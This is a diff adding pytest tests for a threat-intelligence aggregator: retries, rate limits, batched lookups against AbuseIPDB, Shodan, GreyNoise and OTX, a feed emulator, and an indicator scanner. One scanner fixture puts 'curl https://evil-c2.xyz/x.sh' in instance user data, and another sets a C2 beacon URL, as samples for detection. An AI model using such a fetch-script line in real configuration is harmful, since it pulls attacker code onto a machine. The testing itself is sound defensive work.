@@ -0,0 +1,283 @@
+import pytest
+
+from lambdas.lib.adapters.transport import (
+    Transport, RetryPolicy, RetryBudget, FeedDegraded, parse_retry_after
+)
+from lambdas.lib.adapters.abuseipdb_adapter import AbuseIPDBAdapter
+
+
+class FakeResponse:
+    def __init__(self, status_code, payload=None, headers=None):
+        self.status_code = status_code
+        self._payload = payload or {}
+        self.headers = headers or {}
+
+    def json(self):
+        return self._payload
+
+
+class FakeSession:
+    """Replays canned responses in order and records the requests made."""
+
+    def __init__(self, responses):
+        self.responses = list(responses)
+        self.calls = []
+
+    def request(self, method, url, **kwargs):
+        self.calls.append((method, url, kwargs))
+        return self.responses.pop(0)
+
+
+def test_retry_after_is_honoured_then_succeeds():
+    sleeps = []
+    session = FakeSession([FakeResponse(429, headers={'Retry-After': '2'}), FakeResponse(200, {'ok': True})])
+    t = Transport('test', session=session, sleep=sleeps.append,
+                  policy=RetryPolicy(max_attempts=3, base_delay=0.01, max_delay=5))
+    resp = t.get('http://feed/x', budget=RetryBudget(max_retries=5))
+    assert resp.status_code == 200
+    assert len(session.calls) == 2
+    assert sleeps and sleeps[0] >= 2
+
+
+def test_budget_exhaustion_marks_finding_degraded():
+    adapter = AbuseIPDBAdapter(api_key='k')
+    adapter.transport = Transport('abuseipdb', session=FakeSession([FakeResponse(503)] * 5),
+                                  sleep=lambda s: None, policy=RetryPolicy(max_attempts=5, base_delay=0.01))
+    findings = adapter.lookup_ip('1.2.3.4', budget=RetryBudget(max_retries=1))
+    assert findings == [{'feed': 'abuseipdb', 'ip': '1.2.3.4', 'degraded': True,
+                         'evidence': 'http 503 (retry budget exhausted)'}]
+
+
+def test_transport_raises_after_max_attempts():
+    t = Transport('test', session=FakeSession([FakeResponse(500)] * 2), sleep=lambda s: None,
+                  policy=RetryPolicy(max_attempts=2, base_delay=0.01))
+    with pytest.raises(FeedDegraded) as exc:
+        t.get('http://feed/x')
+    assert exc.value.reason == 'http 500 after 2 attempts'
+
+
+def test_parse_retry_after_formats():
+    assert parse_retry_after('7') == 7.0
+    assert parse_retry_after('Wed, 21 Oct 2015 07:28:10 GMT', now=1445412480) == 10.0
+    assert parse_retry_after('soon') is None
+    assert parse_retry_after(None) is None
+
+
+def test_shodan_lookup_many_uses_one_multi_host_call():
+    from lambdas.lib.adapters.shodan_adapter import ShodanAdapter
+    adapter = ShodanAdapter(api_key='k')
+    session = FakeSession([FakeResponse(200, [{'ip_str': '1.1.1.1', 'vulns': ['CVE-1']},
+                                              {'ip_str': '2.2.2.2'}])])
+    adapter.transport = Transport('shodan', session=session)
+    findings = adapter.lookup_many(['1.1.1.1', '2.2.2.2'])
+    assert len(session.calls) == 1
+    assert session.calls[0][1].endswith('/shodan/host/1.1.1.1,2.2.2.2')
+    assert {f['host']: f['risk'] for f in findings} == {'1.1.1.1': 'MEDIUM', '2.2.2.2': 'LOW'}
+
+
+def test_aggregator_batches_shared_indicators_across_resources():
+    from lambdas.lib.adapters.aggregator import ThreatAggregator
+
+    class RecordingAdapter:
+        INDICATOR_KEY = 'ip'
+
+        def __init__(self, feed):
+            self.FEED = feed
+            self.feed = feed
+            self.batches = []
+
+        def lookup_many(self, indicators, budget=None):
+            self.batches.append(list(indicators))
+            return [{'feed': self.feed, 'ip': i, 'risk': 'LOW'} for i in indicators]
+
+        def candidates(self, resource):
+            return []
+
+    agg = ThreatAggregator(environ={})
+    agg.adapters = {f: RecordingAdapter(f) for f in ('abuseipdb', 'greynoise', 'shodan', 'otx')}
+    shared = {'associate_public_ip_address': True, 'public_ip': '9.9.9.9'}
+    resources = [{'attributes': shared}, {'attributes': dict(shared)}, {'attributes': {}}]
+    results = agg.check_resources(resources)
+    assert agg.adapters['abuseipdb'].batches == [['9.9.9.9']]
+    assert [len(r) for r in results] == [3, 3, 0]
+
+
+def test_single_flight_coalesces_concurrent_lookups():
+    import threading
+    import time
+    from lambdas.lib.adapters.aggregator import ThreatAggregator
+
+    started, release = threading.Event(), threading.Event()
+
+    class SlowAdapter:
+        FEED = 'shodan'
+        INDICATOR_KEY = 'host'
+        calls = 0
+
+        def lookup_many(self, indicators, budget=None):
+            SlowAdapter.calls += 1
+            started.set()
+            release.wait(5)
+            return [{'feed': 'shodan', 'host': i, 'risk': 'HIGH'} for i in indicators]
+
+    agg = ThreatAggregator()
+    adapter = SlowAdapter()
+    out = []
+    leader = threading.Thread(target=lambda: out.append(agg._lookup(adapter, ['5.5.5.5'])))
+    leader.start()
+    started.wait(5)
+    follower = threading.Thread(target=lambda: out.append(agg._lookup(adapter, ['5.5.5.5'])))
+    follower.start()
+    deadline = time.monotonic() + 5
+    while agg.stats()['coalesced'] == 0:
+        assert time.monotonic() < deadline, 'follower was never coalesced onto the in-flight lookup'
+        time.sleep(0.001)
+    release.set()
+    leader.join(5)
+    follower.join(5)
+
+    assert SlowAdapter.calls == 1
+    assert out[0] == out[1] == {'5.5.5.5': [{'feed': 'shodan', 'host': '5.5.5.5', 'risk': 'HIGH'}]}
+    assert agg.stats() == {'calls': 1, 'coalesced': 1, 'inflight': 0, 'planner_skipped': 0}
+
+
+def test_registry_enables_only_keyed_feeds():
+    from lambdas.lib.adapters.aggregator import ThreatAggregator
+    agg = ThreatAggregator(environ={'SHODAN_API_KEY': 'k', 'OTX_API_KEY': '  '})
+    assert list(agg.adapters) == ['shodan']
+    assert agg.skipped_feeds == ['abuseipdb', 'greynoise', 'otx']
+    assert ThreatAggregator(environ={}).check_resources([{'attributes': {'endpoint': '1.2.3.4'}}]) == [[]]
+
+
+def test_indicator_scanner_finds_typed_indicators_in_nested_attributes():
+    from lambdas.lib.indicator_scanner import scan_resource, indicator_type
+    from lambdas.lib.adapters.aggregator import ThreatAggregator
+
+    lam = {'type': 'aws_lambda_function', 'attributes': {
+        'environment': [{'variables': {'C2': 'https://evil-c2.xyz/beacon', 'DB': '10.0.0.5', 'FALLBACK': '45.33.32.156'}}],
+        'user_data': '203.0.113.9',  # not allowlisted for Lambda
+    }}
+    assert scan_resource(lam).by_type == {'ipv4': {'45.33.32.156': None}, 'ipv6': {}, 'cidr': {}, 'fqdn': {'evil-c2.xyz': None}}
+
+    sg = {'type': 'aws_security_group', 'attributes': {'ingress': [
+        {'cidr_blocks': ['0.0.0.0/0', '198.51.100.0/24', '8.8.4.4/32'], 'ipv6_cidr_blocks': ['2001:4860::/32']}]}}
+    assert scan_resource(sg).select() == ['8.8.4.4', '2001:4860::/32']  # documentation and catch-all ranges dropped
+    assert ThreatAggregator.ip_indicators(sg, types=('ipv4',)) == ['8.8.4.4']
+    assert [indicator_type(v) for v in ('1.2.3.4', '::1', '1.2.0.0/16', 'a.example.org', 'x')] == \
+        ['ipv4', 'ipv6', 'cidr', 'fqdn', None]
+
+    # tag values look like hostnames but are labels
+    ec2 = {'type': 'aws_instance', 'attributes': {
+        'tags': {'Name': 'web.prod', 'Role': 'app.internal', 'Owner': 'team.payments'},
+        'user_data': 'curl https://evil-c2.xyz/x.sh'}}
+    assert scan_resource(ec2).select() == ['evil-c2.xyz']
+
+
+def test_adapters_run_against_local_feed_emulator():
+    from benchmarks.feed_emulator import FeedEmulator, FeedProfile
+    from lambdas.lib.adapters.greynoise_adapter import GreyNoiseAdapter
+    from lambdas.lib.adapters.shodan_adapter import ShodanAdapter
+    from lambdas.lib.adapters.otx_adapter import OTXAdapter
+
+    ips = [f'45.33.{i}.{i + 1}' for i in range(20)]
+    profiles = {'*': FeedProfile(bad_ratio=0.5), 'otx': FeedProfile(error_429=1.0, retry_after='0')}
+    with FeedEmulator(profiles) as emu:
+        urls = emu.base_urls()
+        abuse = AbuseIPDBAdapter('k', base_url=urls['abuseipdb']).lookup_many(ips + ['45.33.0.0/24'])
+        noise = GreyNoiseAdapter('k', base_url=urls['greynoise']).lookup_many(ips)
+        shodan = ShodanAdapter('k', base_url=urls['shodan']).lookup_many(ips)
+        otx = OTXAdapter('k', base_url=urls['otx'])
+        otx.transport.sleep = lambda s: None
+        throttled = otx.lookup_indicator('45.33.32.156')
+        stats = emu.stats()
+
+    assert len(abuse) == 21 and abuse[-1]['ip'] == '45.33.0.0/24'   # 20 checks + the reported block
+    assert 0 < len(noise) < 20 and stats['greynoise']['requests'] == 1    # one multi call
+    assert len(shodan) == 20 and stats['shodan']['requests'] == 1
+    assert throttled[0]['degraded'] and stats['otx'] == {'requests': 4, 'throttled': 4, 'errors': 0, 'indicators': 0}
+
+
+def test_cassette_records_against_emulator_and_replays_offline(tmp_path):
+    from benchmarks.feed_emulator import FeedEmulator, FeedProfile
+    from lambdas.lib.adapters.cassette import use_cassette
+    from lambdas.lib.adapters.greynoise_adapter import GreyNoiseAdapter
+    from lambdas.lib.adapters.otx_adapter import OTXAdapter
+    from lambdas.lib.adapters.shodan_adapter import ShodanAdapter
+
+    path = str(tmp_path / 'feeds.cassette')
+    ips = [f'45.33.{i}.{i + 1}' for i in range(20)]
+    profiles = {'*': FeedProfile(bad_ratio=0.5, payload_kb=2), 'otx': FeedProfile(error_429=0.5, retry_after='0')}
+
+    def run(urls, key):
+        otx = OTXAdapter(key, base_url=urls['otx'])
+        otx.transport.sleep = lambda s: None
+        return (AbuseIPDBAdapter(key, base_url=urls['abuseipdb']).lookup_many(ips),
+                GreyNoiseAdapter(key, base_url=urls['greynoise']).lookup_many(ips),
+                ShodanAdapter(key, base_url=urls['shodan']).lookup_many(ips),    # key sent as ?key=
+                otx.lookup_many(ips[:5]))
+
+    try:
+        with FeedEmulator(profiles, seed=3) as emu:
+            recorder = use_cassette(path, 'record')
+            recorded = run(emu.base_urls(), 'real-key')
+            urls = emu.base_urls()
+        assert recorder.recorded > 20
+
+        player = use_cassette(path, 'replay')      # emulator stopped: nothing to reach
+        assert len(player) == recorder.recorded
+        assert run(urls, 'other-key') == recorded
+        assert player.stats()['misses'] == 0
+
+        AbuseIPDBAdapter('k', base_url=urls['abuseipdb']).lookup_ip('10.9.9.9')
+        assert player.stats()['misses'] == 1
+    finally:
+        use_cassette(None)
+
+
+def test_failed_multi_lookups_mark_the_whole_batch_degraded():
+    from benchmarks.feed_emulator import FeedEmulator, FeedProfile
+    from lambdas.lib.adapters.greynoise_adapter import GreyNoiseAdapter
+    from lambdas.lib.adapters.shodan_adapter import ShodanAdapter
+
+    ips = [f'45.33.{i}.{i + 1}' for i in range(10)]
+    for profile in (FeedProfile(error_400=1.0), FeedProfile(error_5xx=1.0)):
+        with FeedEmulator({'*': profile}) as emu:
+            urls = emu.base_urls()
+            shodan, noise = ShodanAdapter('k', base_url=urls['shodan']), GreyNoiseAdapter('k', base_url=urls['greynoise'])
+            for adapter in (shodan, noise):
+                adapter.transport.policy = RetryPolicy(max_attempts=2, base_delay=0.001)
+            found = {'shodan': shodan.lookup_many(ips), 'greynoise': noise.lookup_many(ips)}
+            stats = emu.stats()
+
+        for feed, findings in found.items():
+            key = 'host' if feed == 'shodan' else 'ip'
+            assert [f[key] for f in findings] == ips and all(f['degraded'] for f in findings), (feed, profile)
+            assert stats[feed]['errors'] == stats[feed]['requests'] <= 2    # one batch call (plus a retry of 5xx)
+
+
+def test_failed_lookups_are_degraded_not_clean():
+    from lambdas.lib.adapters.aggregator import ThreatAggregator
+    from lambdas.lib.adapters.cassette import CassetteMiss
+    from lambdas.lib.adapters.shodan_adapter import ShodanAdapter
+
+    class BrokenAdapter:
+        FEED, INDICATOR_KEY = 'shodan', 'host'
+
+        def lookup_many(self, indicators, budget=None):
+            raise RuntimeError('adapter bug')
+
+    agg = ThreatAggregator(environ={})
+    assert agg._lookup(BrokenAdapter(), ['1.1.1.1', '2.2.2.2']) == {
+        i: [{'feed': 'shodan', 'host': i, 'degraded': True, 'evidence': 'RuntimeError'}] for i in ('1.1.1.1', '2.2.2.2')}
+
+    class MissingSession:
+        def request(self, method, url, **kwargs):
+            raise CassetteMiss(url)
+
+    adapter = ShodanAdapter(api_key='k')
+    adapter.transport = Transport('shodan', session=FakeSession([FakeResponse(401), FakeResponse(404)]))
+    assert adapter.lookup_host('1.1.1.1') == [{'feed': 'shodan', 'host': '1.1.1.1', 'degraded': True,
+                                               'evidence': 'http 401'}]
+    assert adapter.lookup_host('2.2.2.2') == []      # 404: nothing known about the host
+    adapter.transport = Transport('shodan', session=MissingSession())
+    assert adapter.lookup_host('3.3.3.3')[0]['degraded']